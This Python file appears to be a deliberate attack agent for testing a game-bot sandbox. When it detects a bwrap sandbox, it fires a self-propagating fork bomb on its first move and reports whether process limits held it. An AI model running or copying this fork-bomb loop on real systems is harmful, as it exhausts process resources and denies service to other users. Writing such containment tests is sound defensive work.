"""Attack: a fork bomb (bounded by RLIMIT_NPROC of the slot's uid, gone with the sandbox)."""

import os
import sys
import time

from cow006 import Agent


def sandboxed():
    """Destructive attacks fire only inside the sandbox: never as root or on the host."""
    try:
        with open("/proc/1/cmdline", "rb") as f:
            init = f.read()
    except OSError:
        return False
    return os.getuid() != 0 and os.getpid() < 50 and b"bwrap" in init


class Bot(Agent):
    fired = False

    def play(self, view):
        if not self.fired and sandboxed():
            self.fired = True
            print("ATTACK fork_bomb", file=sys.stderr, flush=True)
            made = 0
            for _ in range(500):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:  # every child keeps trying to fork too
                    while True:
                        try:
                            if os.fork() == 0:
                                continue
                        except OSError:
                            pass
                        time.sleep(0.05)
                made += 1
            time.sleep(0.2)  # the children fork on
            alive = sum(name.isdigit() for name in os.listdir("/proc"))
            print(f"fork_bomb: {made} children, {alive} processes", file=sys.stderr, flush=True)
            if alive > 40:
                print(f"ESCAPED: {alive} processes", file=sys.stderr, flush=True)
        return min(view.hand)
